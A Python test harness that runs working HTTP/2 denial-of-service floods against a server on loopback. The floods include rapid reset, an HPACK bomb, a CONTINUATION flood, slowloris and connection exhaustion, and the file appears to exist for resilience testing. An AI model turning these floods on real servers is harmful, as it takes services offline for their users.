"""The floods, one function each: an attacker with one goal, who comes back when it is thrown out.

Run as `flood_attacks.py NAME PORT` it attacks, says so on standard output once all its connections are there, and goes
on until its standard input ends. Loopback only.
"""

from __future__ import annotations

import os
import sys
from collections.abc import Awaitable, Callable
from contextlib import suppress
from functools import partial
from typing import Final

import trio
from hostile_peer import (
    CONTINUATION,
    DATA,
    HEADERS,
    PING,
    PREFACE,
    Requests,
    connect,
    frame,
    message,
    reset_frame,
    settings_frame,
    window_frame,
)

Attack = Callable[[trio.SocketStream], Awaitable[None]]

_GONE: Final = (trio.BrokenResourceError, trio.ClosedResourceError, OSError)
# So many times a second an attacker comes back: more would be a flood of TCP connections, which is for a firewall.
COMEBACKS: Final = 20
# All connections are there before it counts; they come one after the other.
_APART: Final = 0.002
_BURST: Final = 20_000
_MOST_WINDOW: Final = 2**31 - 1
_INITIAL_WINDOW: Final = 4
_OPENING: Final = PREFACE + settings_frame((_INITIAL_WINDOW, _MOST_WINDOW)) + window_frame(0, 2**30)


def _pour(make: Callable[[], bytes]) -> Attack:
    """Send the same bytes again on each connection; what the server says is read and ignored."""
    data = _OPENING + make()

    async def attack(stream: trio.SocketStream) -> None:
        async with trio.open_nursery() as nursery:
            nursery.start_soon(_ignore, stream)
            await stream.send_all(data)

    return attack


async def _ignore(stream: trio.SocketStream) -> None:
    with suppress(*_GONE):
        while await stream.receive_some():
            pass


def _rapid_reset() -> bytes:
    requests = Requests()
    return b"".join(requests.call(i, "Echo") + reset_frame(i) for i in range(1, 2 * _BURST, 2))


def _bomb() -> bytes:
    requests = Requests()
    first = requests.call(1, "Echo", extra=[("x-bomb", "x" * 3000)])
    block = requests.block("Echo", [("x-bomb", "x" * 3000)])
    return first + frame(HEADERS, block + block[-1:] * 10_000, flags=4, stream=3)


def _endless_block() -> bytes:
    requests = Requests()
    return frame(HEADERS, requests.block("Echo"), stream=1) + frame(CONTINUATION, bytes(100), stream=1) * _BURST


def _empty_data() -> bytes:
    return Requests().begin(1, "Collect") + frame(DATA, stream=1) * _BURST


def _late_upload() -> bytes:
    opening = Requests().begin(1, "Collect") + frame(DATA, message(b"enough"), stream=1)
    return opening + frame(DATA, bytes(16_000), stream=1) * 2000


async def _slow_reader(stream: trio.SocketStream) -> None:
    """Ask for 300 MB with the windows wide open, and read nothing."""
    await stream.send_all(_OPENING + Requests().call(1, "Watch", b"5000 60000"))
    await trio.sleep_forever()


async def _slowloris(stream: trio.SocketStream) -> None:
    """Say the preface, a byte now and then."""
    for byte in PREFACE:
        await stream.send_all(bytes([byte]))
        await trio.sleep(1)


async def _nothing(stream: trio.SocketStream) -> None:
    """Be there."""
    await stream.send_all(_OPENING)
    await _ignore(stream)


# What to do on each connection, and how many connections at once do it.
ATTACKS: Final[dict[str, tuple[Callable[[], Attack], int]]] = {
    "rapid reset": (partial(_pour, _rapid_reset), 1),
    "ping": (partial(_pour, lambda: frame(PING, bytes(8)) * _BURST), 1),
    "settings": (partial(_pour, lambda: settings_frame() * _BURST), 1),
    "continuation": (partial(_pour, _endless_block), 1),
    "hpack bomb": (partial(_pour, _bomb), 1),
    "empty data": (partial(_pour, _empty_data), 1),
    "window update": (partial(_pour, lambda: window_frame(0, 1) * _BURST), 1),
    "upload after the end": (partial(_pour, _late_upload), 1),
    "slow readers": (lambda: _slow_reader, 20),
    "slowloris": (lambda: _slowloris, 300),
    "many connections": (lambda: _nothing, 1500),
}


async def _keep_at_it(attack: Attack, port: int, pause: float) -> None:
    while True:
        with suppress(*_GONE, ExceptionGroup):
            async with await connect(port) as stream:
                await attack(stream)
        await trio.sleep(pause)


async def main() -> None:
    """Attack until standard input ends."""
    os.nice(19)  # an attacker is another machine: it must not take the processor from the server and the good client
    make, count = ATTACKS[sys.argv[1]]
    attack, port = make(), int(sys.argv[2])
    async with trio.open_nursery() as nursery:
        for _ in range(count):
            nursery.start_soon(_keep_at_it, attack, port, count / COMEBACKS)
            await trio.sleep(_APART)
        print("attacking", flush=True)
        await trio.to_thread.run_sync(sys.stdin.read)
        nursery.cancel_scope.cancel()


if __name__ == "__main__":
    trio.run(main)
